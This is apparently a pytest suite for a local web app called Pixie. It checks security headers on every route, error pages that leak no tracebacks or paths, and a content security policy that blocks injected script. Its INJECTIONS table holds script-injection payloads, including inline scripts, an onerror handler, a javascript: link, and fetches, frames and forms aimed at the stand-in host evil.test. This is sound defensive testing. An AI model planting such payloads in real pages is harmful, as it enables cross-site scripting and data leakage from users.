"""Every answer of every route, of success, refusal and fault, has Pixie's headers: a crawl with the lint round the server.

And what is injected into a page in spite of all is blocked by its policy.
"""

import contextlib
import sqlite3

import pytest

from pixie_server.app import ROUTES
from tests.reliability.kept import keep
from tests.reliability.raw import addresses, request, status_of
from tests.server.live_pixie import add_tools, live_pixie

ENDLESS = {"/api/events"}
ACCEPTED = ("text/html", "application/json", "text/event-stream", "*/*", "image/avif,*/*;q=0.1")
EXPECTED = {200, 206, 304, 400, 403, 404, 405, 409, 413, 414, 415, 416, 422, 431, 500, 503}


@pytest.fixture
def crawled(tmp_path):
    """A served Pixie of its own, the id of a run in it, and the number of its file."""
    add_tools(tmp_path)
    with live_pixie(tmp_path, developer_mode=True) as live:
        run_id, numbers = keep(live.pixie, {"a.txt": b"words"})
        yield live, run_id, numbers["a.txt"]


def values(run_id, number):
    return {"tool_id": "adder", "run_id": run_id, "artefact_id": number, "key": "sum", "workspace_id": 1}


@pytest.mark.case("N12.lint", "N12.exact", "N8.policy")
def test_every_answer_of_every_route_wears_pixies_headers(crawled):
    """With what is there and what isn't, by every method, to every taste, broken and refused; the lint looks at each."""
    live, run_id, number = crawled
    there = [(route, path) for route, path in addresses(ROUTES, **values(run_id, number)) if path not in ENDLESS]
    for route, path in [*there, *addresses(ROUTES), (None, "/static/css/base.css"), (None, "/no"), (None, "/api/no")]:
        for accept in ACCEPTED if route is None or route.method == "GET" else ACCEPTED[:2]:
            if path in ENDLESS or ("validate" in path and accept != "text/html"):
                continue
            status_of(live, path, f"accept: {accept}", method=route.method if route else "GET")
        for method in ("HEAD", "POST", "DELETE", "OPTIONS"):
            if path in ENDLESS or "validate" in path or method == (route.method if route else "GET"):
                continue
            request(live, path, "content-type: text/plain", method=method, body=b"x" if method == "POST" else b"")
        status_of(live, path, host="evil.test")
        status_of(live, path, "origin: null")
    status_of(live, "/api/events")
    content = f"/api/artefacts/{number}/content"
    etag = live.get(content).headers["etag"]
    for header in (f"if-none-match: {etag}", "range: bytes=0-1", "range: bytes=99-", "range: bytes=-1"):
        status_of(live, content, header)
    kind = "content-type: application/json"
    for path, body in (("/api/tools/adder/runs", b"{"), ("/api/tools/adder/runs", b'{"inputs": {"a": "x"}}')):
        request(live, path, kind, method="POST", body=body)
    request(live, "/api/tools/adder/runs", kind, "content-length: 99999999", method="POST")
    request(live, "/" + "a" * 9000)
    request(live, "/", "x-long: " + "a" * 17_000)
    live.post(f"/api/runs/{run_id}/star", json={"starred": True})
    live.client.delete(f"/api/runs/{run_id}")
    assert live.lint.failures == []
    seen = {status for _, _, status in live.lint.answers}
    assert seen >= EXPECTED - {500, 503}, sorted(EXPECTED - seen)


@pytest.mark.case("N12.lint")
@pytest.mark.parametrize("accept", ["text/html", "application/json"])
def test_a_fault_is_answered_like_everything_else_and_tells_nothing(crawled, monkeypatch, accept):
    """500 by a bug, 503 by a database that can't be had: all headers, and neither a traceback nor a path of this machine."""
    live, run_id, _ = crawled

    def fails(*_arguments, **_more):
        raise RuntimeError("a bug in /home/somebody/pixie.py")

    def busy(*_arguments, **_more):
        raise sqlite3.OperationalError("database is locked: /home/somebody/pixie.db")

    for how in (fails, busy):
        with monkeypatch.context() as patched:
            for name in ("get", "runs", "settings_told"):
                with contextlib.suppress(AttributeError):
                    patched.setattr(type(live.pixie), name, how)
            for path in (f"/api/runs/{run_id}", "/api/runs", f"/tool/adder/runs/{run_id}"):
                status, head, body = request(live, path, f"accept: {accept}")
                assert status in {500, 503}, path
                assert b"Traceback" not in body
                assert b"somebody" not in body
                assert str(live.pixie.settings.home).encode() not in body
                assert ("json" in head) == (accept == "application/json" or path.startswith("/api"))
    assert live.lint.failures == []
    assert live.get("/api/healthz").json() == {"ok": True}


INJECTIONS = {
    "an inline script": "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.ran = 1'}))",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')",
    "eval": "try { setTimeout('window.ran = 1', 0) } catch {}",
    "a javascript link": "{ const a = Object.assign(document.createElement('a'), {href: 'javascript:window.ran=1'});"
    " document.body.append(a); a.click(); }",
    "a script of data": "document.body.append(Object.assign(document.createElement('script'), {src: 'data:,window.ran=1'}))",
    "a script from elsewhere": "document.body.append(Object.assign(document.createElement('script'), {src: 'http://evil.test/x.js'}))",
    "a frame from elsewhere": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://evil.test/'}))",
    "a form to elsewhere": "{ const f = Object.assign(document.createElement('form'), {action: 'http://evil.test/', target: '_blank'});"
    " document.body.append(f); f.submit(); }",
    "a fetch to elsewhere": "fetch('http://evil.test/').catch(() => 0)",
    "a picture from elsewhere": "new Image().src = 'http://evil.test/x.png'",
    "another base": "document.head.append(Object.assign(document.createElement('base'), {href: 'http://evil.test/'}))",
    "an object": "document.body.append(Object.assign(document.createElement('object'), {data: 'http://evil.test/'}))",
}


@pytest.mark.case("X10.blocked")
@pytest.mark.parametrize("injected", INJECTIONS.values(), ids=INJECTIONS)
def test_what_is_injected_into_a_page_is_blocked(untouched, kept, chromium, injected):
    """Though it got past all else: nothing runs and nothing leaves, on a page with a run and on one that says no."""
    context = chromium.new_context(base_url=untouched.url)
    sent = []
    context.on("requestfinished", lambda request: sent.append(request.url))
    try:
        page = context.new_page()
        page.add_init_script(
            "window.broken = []; document.addEventListener('securitypolicyviolation', e => broken.push(e.effectiveDirective))"
        )
        for path in (f"/tool/adder/runs/{kept[0]}", "/no/such/page"):
            page.goto(path)
            page.evaluate(f"() => {{ {injected} }}")
            page.wait_for_function("() => window.broken.length > 0")
            assert page.evaluate("window.ran") is None
        assert [url for url in sent if "evil.test" in url] == []
    finally:
        context.close()
